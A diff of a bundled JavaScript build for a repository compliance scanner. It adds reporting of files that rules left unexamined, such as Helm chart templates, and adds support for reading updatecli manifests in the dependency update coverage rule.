@@ -5113,8 +5113,8 @@ async function judgeChange(findings, options, run) {
     return { scope: options.scope, judged, counts };
 }
 
-// EXTERNAL MODULE: ./lib/core/evaluators/registry.js + 172 modules
-var registry = __nccwpck_require__(7687);
+// EXTERNAL MODULE: ./lib/core/evaluators/registry.js + 173 modules
+var registry = __nccwpck_require__(9313);
 ;// CONCATENATED MODULE: ./lib/core/file-cache.js
 /**
  * The results cache: what the per-file rules found in each tracked file, keyed by the file's path
@@ -5462,8 +5462,9 @@ class CacheCollector {
         const g = this.gathered(id);
         if (g.dropped)
             return;
-        // A rule that failed, or read the API, is not kept.
-        if (!('raw' in outcome) || outcome.examined.settings.length > 0) {
+        // A rule that failed, read the API, or left files out (the cache keeps no record of those) is
+        // not kept.
+        if (!('raw' in outcome) || outcome.examined.settings.length > 0 || outcome.examined.leftOut) {
             g.dropped = true;
             return;
         }
@@ -5626,7 +5627,10 @@ const DEFAULT_TEST_PATHS = [
     '**/mocks/**',
     '**/examples/**',
     '**/example/**',
+    // A hidden examples folder (`.examples/`) is as much an example as a visible one.
+    '**/.examples/**',
     '**/samples/**',
+    '**/sample/**',
     '**/docs/**',
     '**/doc/**',
     '**/vendor/**',
@@ -5855,6 +5859,9 @@ class RecordingWorkspace extends workspace_workspace/* Workspace */.aR {
     }
     examine(files) {
         this.whole.examine(files);
+    }
+    leaveOut(file, kind) {
+        this.whole.leaveOut(file, kind);
     }
     release(files) {
         this.whole.release(files);
@@ -6088,6 +6095,7 @@ class RuleRun {
                 if (from === 0 && asking?.[i])
                     collector.add(sharedRules[i].id, o);
                 tallies[from + i].add(o.examined.files);
+                tallies[from + i].addLeftOut(o.examined.leftOut);
                 for (const s of o.examined.settings)
                     settings[from + i].add(s);
                 o.examined = NOTHING_EXAMINED;
@@ -6178,6 +6186,8 @@ class RuleRun {
                     sum.raw.push(...o.raw);
                 sum.examined.files.push(...o.examined.files);
                 sum.examined.settings.push(...o.examined.settings);
+                if (o.examined.leftOut)
+                    sum.examined.leftOut = [...(sum.examined.leftOut ?? []), ...o.examined.leftOut];
                 sum.asked.push(...(o.asked ?? []));
             }
         }
@@ -6193,6 +6203,7 @@ class RuleRun {
         const tally = this.tally();
         tally.add(examined);
         tally.add(fresh.examined.files);
+        tally.addLeftOut(fresh.examined.leftOut);
         summary.scope = { ...tally.result(), settings: [...new Set(fresh.examined.settings)], basis: 'tree' };
         if ('error' in fresh) {
             this.fail(rule, summary, fresh);
@@ -6226,9 +6237,18 @@ class RuleRun {
         const discount = [...this.policyFiles].flatMap((f) => this.workspace.scope.position(f) ?? []);
         return new scope/* ScopeTally */.F9(this.workspace.files, discount);
     }
+    /** Stored left-out files (by path) as positions of this run's tree. */
+    leftOutParts(stored) {
+        return stored?.map((l) => ({
+            kind: l.kind,
+            reason: l.reason,
+            files: l.files.flatMap((f) => this.workspace.scope.position(f) ?? []),
+        }));
+    }
     scopeOf(examined, basis) {
         const tally = this.tally();
         tally.add(examined.files);
+        tally.addLeftOut(examined.leftOut);
         return { ...tally.result(), settings: examined.settings, basis };
     }
     startWorkers(rules, queue, count, fold, asking) {
@@ -6333,6 +6353,7 @@ class RuleRun {
             const stored = kept?.get(path);
             if (stored) {
                 tally.add(stored.files.flatMap((f) => this.workspace.scope.position(f) ?? []));
+                tally.addLeftOut(this.leftOutParts(stored.leftOut));
                 parts.push(stored);
                 this.subjectCounts.reused += 1;
                 continue;
@@ -6341,13 +6362,21 @@ class RuleRun {
             const outcome = await (0,evaluate_rule/* runEvaluator */.tn)(rule, recorder, this.policy, this.github, [path]);
             const inputs = recorder.log.end();
             tally.add(outcome.examined.files);
+            tally.addLeftOut(outcome.examined.leftOut);
             for (const s of outcome.examined.settings)
                 settings.add(s);
             if ('error' in outcome) {
                 summary.scope = { ...tally.result(), settings: [...settings], basis: 'tree' };
                 return this.fail(rule, summary, outcome);
             }
-            parts.push({ path, inputs, raw: outcome.raw, files: outcome.examined.files.map((i) => files[i]) });
+            const leftOut = outcome.examined.leftOut?.map((p) => ({ ...p, files: p.files.map((i) => files[i]) }));
+            parts.push({
+                path,
+                inputs,
+                raw: outcome.raw,
+                files: outcome.examined.files.map((i) => files[i]),
+                ...(leftOut ? { leftOut } : {}),
+            });
         }
         this.subjectCounts.total += subjects.length;
         // The parts made into the rule's findings (a verdict about the repository as a whole), each time:
@@ -6356,6 +6385,7 @@ class RuleRun {
         const combined = await (0,evaluate_rule/* combineParts */.YH)(rule, recorder, this.policy, parts.flatMap((p) => p.raw));
         const combining = recorder.log.end();
         tally.add(combined.examined.files);
+        tally.addLeftOut(combined.examined.leftOut);
         summary.scope = { ...tally.result(), settings: [...settings], basis: 'tree' };
         if ('error' in combined)
             return this.fail(rule, summary, combined);
@@ -6379,6 +6409,9 @@ class RuleRun {
             examples: [...stored.scope.examples],
             settings: [...stored.scope.settings],
         };
+        if (stored.scope.leftOut) {
+            summary.scope.leftOut = stored.scope.leftOut.map((l) => ({ ...l, examples: [...l.examples] }));
+        }
         const first = this.findings.length;
         this.append(rule, summary, stored.raw);
         const fingerprints = this.findings.slice(first).map((f) => f.fingerprint);
@@ -7162,8 +7195,32 @@ function examinedAnything(rule) {
 function examinedCount(rule) {
     return (rule.scope?.files ?? 0) + (rule.scope?.settings.length ?? 0);
 }
-/** "rule X examined nothing: no Dockerfiles in this repository". */
+/**
+ * Files of one kind a rule left out, in words: `3 Helm chart template files (rendered at install
+ * time: check the output of helm template)`.
+ */
+function leftOutPhrase(l) {
+    return `${l.files} ${l.kind} file${l.files === 1 ? '' : 's'} (${l.reason})`;
+}
+/** Everything a rule left out, in words (see {@link leftOutPhrase}); undefined when nothing. */
+function leftOutOf(rule) {
+    const leftOut = rule.scope?.leftOut;
+    return leftOut?.length ? leftOut.map(leftOutPhrase).join(', ') : undefined;
+}
+/**
+ * "rule X examined nothing: no Dockerfiles in this repository", and what it left out (Helm chart
+ * templates), so that the reason never says the repository has none of what the rule looks for.
+ */
 function examinedNothing(rule, kind, run) {
+    const left = leftOutOf(rule);
+    const said = examinedNothingIn(rule, kind, run);
+    if (!left)
+        return said;
+    return rule.scope?.basis === 'change' && run.changedFiles !== undefined
+        ? `${said}; it left out ${left}`
+        : `${said} besides what it left out: ${left}`;
+}
+function examinedNothingIn(rule, kind, run) {
     const inputs = inputsOf(kind);
     if (rule.scope?.basis === 'change' && run.changedFiles !== undefined) {
         const n = run.changedFiles;
@@ -7344,6 +7401,8 @@ function assessControls(input) {
                 // count, so the verdict says why they do not count against it.
                 for (const [id, n] of unsure)
                     reasons.push(`${unsureFindings(id, n, input.minConfidence)}: ${n === 1 ? 'it makes' : 'they make'} no gap`);
+                // Met as far as its rules looked: what they left out (Helm chart templates) was not examined.
+                reasons.push(...leftOutReasons(rules));
             }
             else if (urls.length > 0 && owner && review) {
                 // What lives outside the repository (a policy in a wiki) is attested by someone accountable.
@@ -7412,6 +7471,24 @@ function exceptionsOf(id, mapped, check) {
         out.push({ id: e.id, state, expires: e.expires, findings: covered });
     }
     return out;
+}
+/**
+ * `rules a, b left out 2 Helm chart template files (…)`: one reason per distinct account of what
+ * the rules left out, naming the rules that left it out.
+ */
+function leftOutReasons(rules) {
+    const byText = new Map();
+    for (const r of rules) {
+        const left = leftOutOf(r);
+        if (!left)
+            continue;
+        const ids = byText.get(left);
+        if (ids)
+            ids.push(r.id);
+        else
+            byText.set(left, [r.id]);
+    }
+    return [...byText].map(([left, ids]) => `${ids.length === 1 ? 'rule' : 'rules'} ${ids.join(', ')} left out ${left}`);
 }
 /** The start of a reason about a rule's open findings below `fail-on-confidence` (guesses). */
 function unsureFindings(ruleId, n, minConfidence) {
@@ -10369,6 +10446,7 @@ function directoryProbe(dir) {
  * each reporter escapes for its own format at the point of output.
  */
 
+
 /** Most severe first: the order every reporter lists severities in. */
 const shared_SEVERITY_ORDER = ['critical', 'high', 'medium', 'low', 'info'];
 /** Control id -> title, from the report's own control list (the reporters never read the catalog). */
@@ -10482,6 +10560,36 @@ function filesScanned(report) {
     if (changedFiles === undefined)
         return `${files} file${files === 1 ? '' : 's'}`;
     return `${changedFiles} changed file${changedFiles === 1 ? '' : 's'} of ${files}`;
+}
+/**
+ * What the rules left out, one group per identical account (every Kubernetes rule leaves the same
+ * Helm chart templates out), in the order of the rules that first give it.
+ */
+function leftOutGroups(report) {
+    const groups = new Map();
+    for (const r of report.rules) {
+        for (const l of r.scope?.leftOut ?? []) {
+            const key = JSON.stringify([l.kind, l.reason, l.files, l.examples]);
+            const group = groups.get(key);
+            if (group)
+                group.rules.push(r.id);
+            else
+                groups.set(key, {
+                    what: leftOutPhrase(l),
+                    rules: [r.id],
+                    examples: [...l.examples],
+                    more: l.files - l.examples.length,
+                });
+        }
+    }
+    return [...groups.values()];
+}
+/** `by rule a`, `by rules a, b, c`, or `by 16 rules` when they are more than three. */
+function leftOutBy(group) {
+    const { rules } = group;
+    if (rules.length === 1)
+        return `by rule ${rules[0]}`;
+    return rules.length <= 3 ? `by rules ${rules.join(', ')}` : `by ${rules.length} rules`;
 }
 /**
  * A finding's path from the top of the repository: the checked folder's `prefix` joined with the
@@ -11175,6 +11283,16 @@ function rule(r) {
                     examples: [...r.scope.examples],
                     settings: [...r.scope.settings],
                     basis: r.scope.basis,
+                    ...(r.scope.leftOut?.length
+                        ? {
+                            leftOut: r.scope.leftOut.map((l) => ({
+                                kind: l.kind,
+                                reason: l.reason,
+                                files: l.files,
+                                examples: [...l.examples],
+                            })),
+                        }
+                        : {}),
                 },
             }
             : {}),
@@ -11522,6 +11640,7 @@ const MAX_REMEDIATION = 600;
 const MAX_REASON = 300;
 const MAX_ERRORS = 50;
 const MAX_POLICY_CHANGES = 50;
+const MAX_LEFT_OUT = 20;
 const VERDICT_LABEL = {
     gap: '❌ gap',
     unverifiable: '⚠️ unverifiable',
@@ -11608,6 +11727,23 @@ function resultSection(report) {
         out.push(`${escape_escapeMarkdown(hidden)}.`);
     if (s.errors > 0)
         out.push(`**${escape_plural(s.errors, 'rule')} failed to run**; see the rule errors below.`);
+    out.push('');
+    out.push(...leftOutSection(report));
+    return out;
+}
+/** Files rules left out on purpose (Helm chart templates), which no verdict rests on. */
+function leftOutSection(report) {
+    const groups = leftOutGroups(report);
+    if (groups.length === 0)
+        return [];
+    const out = ['Left out, not examined:', ''];
+    for (const g of groups.slice(0, MAX_LEFT_OUT)) {
+        const files = g.examples.map((p) => escape_markdownCode(escape_truncate(p, MAX_PATH))).join(', ') +
+            (g.more > 0 ? `, and ${g.more} more` : '');
+        out.push(`- ${escape_escapeMarkdown(escape_truncate(g.what, MAX_REASON))}, ${escape_escapeMarkdown(leftOutBy(g))}: ${files}`);
+    }
+    if (groups.length > MAX_LEFT_OUT)
+        out.push(`- ${escape_plural(groups.length - MAX_LEFT_OUT, 'more')} in the JSON report.`);
     out.push('');
     return out;
 }
@@ -11741,6 +11877,7 @@ function fitBytes(text, maxBytes) {
  * across the runs of one repository only through the same names.
  */
 
+
 /** The namespace of controlgate's OSCAL props (their names are not OSCAL's own). */
 const OSCAL_NS = 'https://github.com/controlgate/controlgate/ns/oscal';
 /** Name-based UUIDs of this document live in this namespace (a version 4 UUID chosen once). */
@@ -11865,6 +12002,7 @@ function ruleObservation(r, uuid, time, origins, link) {
             ? [`${scope.settings.length} repository setting${scope.settings.length === 1 ? '' : 's'}`]
             : []),
     ].join(' and ');
+    const left = leftOutOf(r);
     const examined = [
         ...scope.examples.map((p) => ({ href: link(p), description: `Examined: ${p}` })),
         ...scope.settings.map((s) => ({ description: `Read through the GitHub API: ${s}` })),
@@ -11872,7 +12010,7 @@ function ruleObservation(r, uuid, time, origins, link) {
     return {
         uuid,
         title: `Rule ${r.id}: ${r.result}`,
-        description: `${r.title}. Result: ${r.result} (${r.findings} finding${r.findings === 1 ? '' : 's'}); it examined ${what}${scope.basis === 'change' ? ', in the files the change touches' : ''}.${r.detail ? ` ${r.detail}` : ''}`,
+        description: `${r.title}. Result: ${r.result} (${r.findings} finding${r.findings === 1 ? '' : 's'}); it examined ${what}${scope.basis === 'change' ? ', in the files the change touches' : ''}.${left ? ` It left out ${left}.` : ''}${r.detail ? ` ${r.detail}` : ''}`,
         props: props([
             ['rule', r.id],
             ['result', r.result],
@@ -12090,6 +12228,8 @@ function soaRows(report) {
                 const parts = [
                     ...(scope.files > 0 ? [escape_plural(scope.files, 'file')] : []),
                     ...(scope.settings.length > 0 ? [escape_plural(scope.settings.length, 'setting')] : []),
+                    // Not examined, so never counted above; the reasons say why and what to check instead.
+                    ...(scope.leftOut ?? []).map((l) => `left out ${escape_plural(l.files, `${l.kind} file`)}`),
                 ];
                 const basis = scope.basis === 'change' ? ', changed files only' : '';
                 return [`${r.id} (${r.result}; ${parts.join(', ')}${basis})`];
@@ -12294,6 +12434,7 @@ function renderText(report, options = {}) {
     if (layout.fixesOnce)
         out.push(...fixesSection(report, paint, layout));
     out.push(...otherControls(report, paint));
+    out.push(...text_leftOutSection(report, paint));
     out.push(...policyChangesSection(report, paint, layout));
     if (report.policy.notices.length > 0) {
         out.push(paint('bold', 'Notices'), ...report.policy.notices.map((n) => `  - ${escape_singleLine(n)}`), '');
@@ -12422,6 +12563,22 @@ function otherControls(report, paint) {
     const line = basisLine(report);
     if (line)
         out.push(`  ${escape_singleLine(line)}`);
+    out.push('');
+    return out;
+}
+/**
+ * Files rules left out on purpose (Helm chart templates): no verdict above rests on them, and the
+ * line says what to check instead.
+ */
+function text_leftOutSection(report, paint) {
+    const groups = leftOutGroups(report);
+    if (groups.length === 0)
+        return [];
+    const out = [paint('bold', 'Left out (not examined)')];
+    for (const g of groups) {
+        const files = g.examples.map(escape_escapeControls).join(', ') + (g.more > 0 ? `, and ${g.more} more` : '');
+        out.push(`  - ${escape_singleLine(g.what)}, ${escape_escapeControls(leftOutBy(g))}: ${files}`);
+    }
     out.push('');
     return out;
 }
@@ -14089,6 +14246,13 @@ function storedRuleProblem(rule) {
     }
     if (!isStrings(scope.settings))
         return 'scope.settings is not a list';
+    if (scope.leftOut !== undefined) {
+        const leftOut = scope.leftOut;
+        if (!Array.isArray(leftOut) ||
+            !leftOut.every((l) => isLeftOutKind(l) && Number.isInteger(l.files) && isStrings(l.examples))) {
+            return 'scope.leftOut is not a list of left-out files';
+        }
+    }
     if (rule.rawFromSubjects !== undefined) {
         if (rule.rawFromSubjects !== true || rule.subjects === undefined || rule.raw.length > 0) {
             return 'rawFromSubjects is not true beside subjects and no findings of its own';
@@ -14106,6 +14270,11 @@ function storedRuleProblem(rule) {
             return `subjects[${i}].${inner}`;
         if (!isStrings(subject.files))
             return `subjects[${i}].files is not a list of paths`;
+        const leftOut = subject.leftOut;
+        if (leftOut !== undefined &&
+            (!Array.isArray(leftOut) || !leftOut.every((l) => isLeftOutKind(l) && isStrings(l.files)))) {
+            return `subjects[${i}].leftOut is not a list of left-out files`;
+        }
     }
     return undefined;
 }
@@ -14147,6 +14316,10 @@ function rawProblem(list) {
     }
     return undefined;
 }
+/** An object with a left-out kind's `kind` and `reason`. */
+function isLeftOutKind(v) {
+    return isObject(v) && typeof v.kind === 'string' && typeof v.reason === 'string';
+}
 /** A JSON object (not an array, not null). */
 function isObject(v) {
     return typeof v === 'object' && v !== null && !Array.isArray(v);
@@ -14167,7 +14340,7 @@ function isStrings(v) {
 /* harmony export */   tn: () => (/* binding */ runEvaluator)
 /* harmony export */ });
 /* unused harmony export recordingApi */
-/* harmony import */ var _evaluators_registry_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(7687);
+/* harmony import */ var _evaluators_registry_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(9313);
 /* harmony import */ var _github_api_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(6813);
 /**
  * One evaluator call, the single place where a rule meets the tree: a rule that throws becomes its
@@ -14201,7 +14374,9 @@ async function guarded(rule, workspace, policy, github, call) {
     const examined = () => {
         if (api)
             api.settings = undefined;
-        return { files: workspace.scope.end(), settings };
+        const files = workspace.scope.end();
+        const leftOut = workspace.scope.leftOut();
+        return leftOut ? { files, settings, leftOut } : { files, settings };
     };
     try {
         if (!evaluator)
@@ -14342,7 +14517,7 @@ function policyKind(kind) {
 
 /***/ }),
 
-/***/ 7687:
+/***/ 9313:
 /***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -18488,7 +18663,261 @@ function parseJsonish(text) {
     }
 }
 
+;// CONCATENATED MODULE: ./lib/core/evaluators/deps/updatecli.js
+
+
+
+
+/**
+ * Reader of updatecli manifests (https://www.updatecli.io/docs/), reduced to what the coverage rule
+ * needs: which repository files an updatecli target edits, and which ecosystems an `autodiscovery`
+ * crawler updates.
+ *
+ * Assumption about paths: a target's `spec.file`/`spec.files` is resolved by updatecli against the
+ * working directory it runs in, or against the root of the clone when the target has an `scmid`; in
+ * both usual setups (a workflow running updatecli at the checkout's root, or a `git`/`github` scm of
+ * this repository) that is the repository root, so paths are read as relative to the root, not to
+ * the manifest's directory. A target whose scm is another repository cannot be told apart (its
+ * owner and name are usually template values): at worst a file of the same path here counts as
+ * covered.
+ */
+/**
+ * Where updatecli manifests are found by convention: `updatecli.yaml` (updatecli's default) or its
+ * hidden variant at the root, and any YAML file in an `updatecli.d/` or `updatecli/` directory (the
+ * `--config` directory of most setups, e.g. `updatecli/updatecli.d/*.yaml`). The same globs are
+ * listed by the `dependency-update-tool` rule.
+ */
+const UPDATECLI_GLOBS = [
+    'updatecli.yaml',
+    'updatecli.yml',
+    '.updatecli.yaml',
+    '.updatecli.yml',
+    '**/updatecli.d/**/*.{yaml,yml}',
+    '**/updatecli/**/*.{yaml,yml}',
+];
+/** What a template action inside a line becomes (a name no real path has). */
+const TEMPLATE = '__updatecli_template__';
+const isUpdatecliPath = (0,workspace_glob/* pathMatcher */.k)(UPDATECLI_GLOBS);
+/** Paths where an updatecli manifest may be (only those with its shape are manifests). */
+const UPDATECLI_PATHS = (0,screens/* defineSelector */.xf)('updatecli-manifests', (f) => isUpdatecliPath(f));
+/** Crawler names of updatecli's autodiscovery, by the ecosystem whose manifests they update. */
+const CRAWLERS = {
+    dockerfile: 'docker',
+    npm: 'npm',
+    golang: 'gomod',
+    cargo: 'cargo',
+    maven: 'maven',
+    githubaction: 'github-actions',
+};
+/** The updatecli manifests of the workspace, or undefined when there is none. */
+function readUpdatecli(ws) {
+    const config = { manifests: [], targets: [], crawlers: [], partial: [] };
+    for (const file of ws.filesWhere(UPDATECLI_PATHS)) {
+        const text = ws.text(file);
+        // Cheap screen: a manifest has a top-level `targets:` or `autodiscovery:` key.
+        if (text === undefined || !/^(?:targets|autodiscovery)[ \t]*:/m.test(text))
+            continue;
+        readManifest(file, text, config);
+    }
+    return config.manifests.length > 0 ? config : undefined;
+}
+/** Adds what one candidate file declares, if it has updatecli's shape. */
+function readManifest(file, text, config) {
+    let parsed = (0,yaml/* parseYaml */.hN)(text);
+    // A Go template that is not YAML as written (`key: {{ .value }}`, `{{ range }}` lines): what the
+    // actions produce is unknown, but a file name they make is seen as one (the manifest is partial).
+    if (!parsed.ok)
+        parsed = (0,yaml/* parseYaml */.hN)(neutraliseTemplates(text));
+    if (!parsed.ok) {
+        scanLines(file, text, config);
+        return;
+    }
+    let found = false;
+    let partial = false;
+    for (const doc of parsed.documents) {
+        const root = asMap(doc.value);
+        if (!root || !hasShape(root))
+            continue;
+        found = true;
+        for (const [id, raw] of Object.entries(asMap(root.targets) ?? {})) {
+            const target = asMap(raw);
+            if (!target || typeof target.kind !== 'string')
+                continue;
+            const spec = asMap(target.spec) ?? {};
+            const instruction = asMap(spec.instruction);
+            for (const name of targetFiles(target.kind, spec)) {
+                const normalised = normalisePath(name);
+                if (normalised === null) {
+                    partial = true;
+                    continue;
+                }
+                if (normalised === undefined)
+                    continue;
+                config.targets.push({
+                    manifest: file,
+                    id,
+                    kind: target.kind.toLowerCase(),
+                    file: normalised,
+                    ...(typeof instruction?.keyword === 'string' ? { keyword: instruction.keyword.toUpperCase() } : {}),
+                    ...(typeof instruction?.matcher === 'string' ? { matcher: instruction.matcher } : {}),
+                });
+            }
+        }
+        const autodiscovery = asMap(root.autodiscovery);
+        for (const [name, raw] of Object.entries(asMap(autodiscovery?.crawlers) ?? {})) {
+            const ecosystem = CRAWLERS[name.toLowerCase()];
+            if (!ecosystem)
+                continue;
+            const rootdir = normalisePath(String(asMap(raw)?.rootdir ?? '.'));
+            // A templated directory is unknown; one outside the repository crawls nothing of it.
+            if (rootdir === null)
+                partial = true;
+            else if (rootdir !== undefined)
+                config.crawlers.push({ manifest: file, ecosystem, rootdir });
+        }
+    }
+    if (!found)
+        return;
+    config.manifests.push(file);
+    if (partial)
+        config.partial.push(file);
+}
+/** updatecli's shape: `targets` (whose entries have a `kind`) or `autodiscovery` crawlers; maps. */
+function hasShape(root) {
+    if (root.sources !== undefined && root.sources !== null && !asMap(root.sources))
+        return false;
+    const targets = asMap(root.targets);
+    if (targets && Object.values(targets).some((t) => typeof asMap(t)?.kind === 'string'))
+        return true;
+    return asMap(asMap(root.autodiscovery)?.crawlers) !== undefined;
+}
+/** The file names a target's spec gives (`file`, `files`; a Helm chart's values file in its directory). */
+function targetFiles(kind, spec) {
+    const files = [spec.file, ...(Array.isArray(spec.files) ? spec.files : [])].filter((f) => typeof f === 'string');
+    if (kind.toLowerCase() === 'helmchart' && typeof spec.name === 'string') {
+        return (files.length > 0 ? files : ['values.yaml']).map((f) => `${spec.name}/${f}`);
+    }
+    return files;
+}
+/**
+ * A repository-relative path: `./a/b` and `file://a/b` are `a/b`, `.` is "". Undefined for what is
+ * no file of the repository (a URL, an absolute path, a path out of it); null for a templated name.
+ */
+function normalisePath(name) {
+    if (name.includes('{{') || name.includes(TEMPLATE))
+        return null;
+    let p = name.trim().replace(/^file:\/\//, '');
+    if (/^[a-z][a-z0-9+.-]*:\/\//i.test(p) || p.startsWith('/') || /^[a-z]:[\\/]/i.test(p))
+        return undefined;
+    p = posix_namespaceObject.normalize(p.replace(/\\/g, '/')).replace(/\/+$/, '');
+    if (p === '.' || p === '')
+        return '';
+    return p === '..' || p.startsWith('../') ? undefined : p;
+}
+/**
+ * The text with Go template actions made harmless for a YAML parser: lines holding nothing but
+ * actions (`{{ range ... }}`, `{{- end }}`) become empty (lines keep their numbers), and an action
+ * inside a line becomes a placeholder, so that `key: {{ .value }}` is a plain scalar.
+ */
+function neutraliseTemplates(text) {
+    return text
+        .split('\n')
+        .map((line) => (/^\s*(?:\{\{.*?\}\}\s*)+$/.test(line) ? '' : line.replace(/\{\{.*?\}\}/g, TEMPLATE)))
+        .join('\n');
+}
+/**
+ * Last resort for a manifest that is no YAML even without its template actions: the `file:` values
+ * and `files:` items of its top-level `targets:` block, read line by line. The manifest is partial.
+ */
+function scanLines(file, text, config) {
+    const lines = text.split('\n');
+    const start = lines.findIndex((l) => /^targets[ \t]*:/.test(l));
+    if (start === -1)
+        return;
+    let listIndent = -1;
+    for (const line of lines.slice(start + 1)) {
+        if (/^\S/.test(line) && !line.startsWith('{{') && !line.startsWith('#'))
+            break;
+        const indent = line.search(/\S/);
+        const item = /^\s*-\s+["']?([^"'#\s]+)["']?\s*(?:#.*)?$/.exec(line);
+        if (listIndent >= 0 && item && indent >= listIndent) {
+            pushScanned(file, item[1], config);
+            continue;
+        }
+        listIndent = -1;
+        const key = /^\s*(files?)\s*:\s*["']?([^"'#\s]*)["']?\s*(?:#.*)?$/.exec(line);
+        if (!key)
+            continue;
+        if (key[1] === 'file' && key[2])
+            pushScanned(file, key[2], config);
+        else if (key[1] === 'files' && !key[2])
+            listIndent = indent;
+    }
+    config.manifests.push(file);
+    config.partial.push(file);
+}
+function pushScanned(manifest, name, config) {
+    const file = normalisePath(name);
+    if (file)
+        config.targets.push({ manifest, id: '', kind: 'unknown', file });
+}
+function asMap(v) {
+    return v && typeof v === 'object' && !Array.isArray(v) ? v : undefined;
+}
+/**
+ * Whether updatecli updates a manifest: an autodiscovery crawler of its ecosystem runs over its
+ * directory, or a target edits the file. Only files a target names are covered; for a Dockerfile,
+ * whose updates are its base images, a `dockerfile` target must change a FROM instruction or an ARG
+ * that a FROM line uses (a target whose instruction is not given as keyword and matcher, or of
+ * another kind such as `file`, is taken to). The workflows' actions are one manifest for all
+ * workflows: only a crawler covers them.
+ */
+function updatecliCovers(config, m, dockerfile) {
+    const crawled = config.crawlers.some((c) => c.ecosystem === m.ecosystem && (c.rootdir === '' || m.file.startsWith(`${c.rootdir}/`)));
+    if (crawled)
+        return { covered: true, editing: [] };
+    if (m.ecosystem === 'github-actions')
+        return { covered: false, editing: [] };
+    const editing = config.targets.filter((t) => t.file === m.file);
+    if (editing.length === 0)
+        return { covered: false, editing };
+    if (m.ecosystem !== 'docker')
+        return { covered: true, editing };
+    const model = dockerfile();
+    const baseArgs = model ? fromArgs(model) : undefined;
+    const updatesBase = (t) => {
+        if (t.kind !== 'dockerfile' || t.keyword === undefined || t.matcher === undefined || !baseArgs)
+            return true;
+        if (t.keyword === 'FROM')
+            return true;
+        // The matcher is matched against the ARG's text, taken here leniently (any part of its name).
+        const matcher = t.matcher.toLowerCase();
+        return t.keyword === 'ARG' && [...baseArgs].some((a) => a.toLowerCase().includes(matcher));
+    };
+    return editing.some(updatesBase) ? { covered: true, editing } : { covered: false, editing };
+}
+/**
+ * The names of the ARGs a FROM line uses, directly or through another global ARG's default
+ * (`ARG TAG=${VERSION}-slim`).
+ */
+function fromArgs(model) {
+    const refs = (s) => [...s.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)/g)].map((r) => r[1]);
+    const used = new Set(model.stages.flatMap((s) => refs(`${s.from.image ?? ''} ${s.from.platform ?? ''}`)));
+    const defaults = new Map(model.globalArgs.map((a) => [a.name, a.value ?? '']));
+    for (const pending = [...used]; pending.length > 0;) {
+        for (const r of refs(defaults.get(pending.pop()) ?? '')) {
+            if (!used.has(r)) {
+                used.add(r);
+                pending.push(r);
+            }
+        }
+    }
+    return used;
+}
+
 ;// CONCATENATED MODULE: ./lib/core/evaluators/deps/update-coverage.js
+
+
 
 
 
@@ -18499,17 +18928,19 @@ function parseJsonish(text) {
 const RECURSIVE = new Set(['gradle', 'maven', 'nuget']);
 /**
  * `deps.update-coverage`: every ecosystem and directory that has a manifest is updated by the
- * repository's Dependabot or Renovate configuration. Dependabot must have an `updates` entry with the
- * manifest's `package-ecosystem` and a `directory`/`directories` entry (globs allowed) naming its
+ * repository's Dependabot, Renovate or updatecli configuration. Dependabot must have an `updates`
+ * entry with the manifest's `package-ecosystem` and a `directory`/`directories` entry (globs allowed) naming its
  * directory, its npm or Cargo workspace root, or for Gradle, Maven and NuGet any ancestor. Renovate
  * covers every manifest unless `enabled: false`, `enabledManagers` or a manager's `enabled: false`
  * leave it out; paths it ignores (`ignorePaths`, `includePaths`, the presets' defaults such as
- * the examples and test directories) are a deliberate choice and not reported. With no configuration at all there is nothing to
+ * the examples and test directories) are a deliberate choice and not reported. updatecli covers the
+ * files its targets edit (a Dockerfile only when a target changes its base image) and the manifests
+ * its autodiscovery crawlers find (see updatecli.ts). With no configuration at all there is nothing to
  * compare (the `dependency-update-tool` rule reports that); one finding per uncovered directory.
  */
 const depsUpdateCoverage = (0,types/* defineEvaluator */.D)({
     kind: 'deps.update-coverage',
-    summary: 'Dependabot or Renovate updates every ecosystem and directory that has a manifest.',
+    summary: 'Dependabot, Renovate or updatecli updates every ecosystem and directory that has a manifest.',
     schema: {
         type: 'object',
         additionalProperties: false,
@@ -18522,7 +18953,8 @@ const depsUpdateCoverage = (0,types/* defineEvaluator */.D)({
     evaluate({ options, workspace }) {
         const dependabot = readDependabot(workspace);
         const renovate = readRenovate(workspace);
-        if (!dependabot && !renovate)
+        const updatecli = readUpdatecli(workspace);
+        if (!dependabot && !renovate && !updatecli)
             return [];
         const findings = [];
         const reported = new Set();
@@ -18532,12 +18964,15 @@ const depsUpdateCoverage = (0,types/* defineEvaluator */.D)({
                 continue;
             if (dependabot && dependabotCovers(workspace, dependabot.entries, m))
                 continue;
+            const byUpdatecli = updatecli && updatecliCovers(updatecli, m, () => readDockerfile(workspace, m.file));
+            if (byUpdatecli?.covered)
+                continue;
             const id = `${m.ecosystem}\u0000${m.dir}`;
             if (reported.has(id))
                 continue;
             reported.add(id);
             findings.push({
-                message: describe(m, dependabot, renovate?.file),
+                message: describe(m, dependabot, renovate?.file, updatecli, byUpdatecli?.editing ?? []),
                 location: (0,core_location/* fileLocation */.AR)(m.file),
                 key: `${m.ecosystem}:${m.dir}`,
             });
@@ -18571,7 +19006,7 @@ function update_coverage_ancestors(dir) {
     }
     return out;
 }
-function describe(m, dependabot, renovateFile) {
+function describe(m, dependabot, renovateFile, updatecli, editing) {
     const where = m.dir === '' ? 'the repository root' : m.dir;
     const reasons = [];
     if (dependabot) {
@@ -18583,8 +19018,27 @@ function describe(m, dependabot, renovateFile) {
     }
     if (renovateFile)
         reasons.push(`the Renovate configuration (${renovateFile}) leaves its manager out`);
-    return (`${m.file} (${m.ecosystem}) in ${where} gets no automated dependency updates: ${reasons.join(', and ')}. ` +
+    if (updatecli)
+        reasons.push(describeUpdatecli(updatecli, editing));
+    // A Dockerfile that updatecli edits elsewhere (an ARG of a tool's version) still lacks base updates.
+    const what = editing.length > 0 ? 'automated updates of its base image' : 'automated dependency updates';
+    return (`${m.file} (${m.ecosystem}) in ${where} gets no ${what}: ${reasons.join(', and ')}. ` +
         'Vulnerable versions there are not updated.');
+}
+/** Why updatecli does not cover the manifest, in words; says when a manifest was read only in part. */
+function describeUpdatecli(config, editing) {
+    const manifests = config.manifests.length === 1 ? config.manifests[0] : `${config.manifests.length} updatecli manifests`;
+    const partial = config.partial.length === 0
+        ? ''
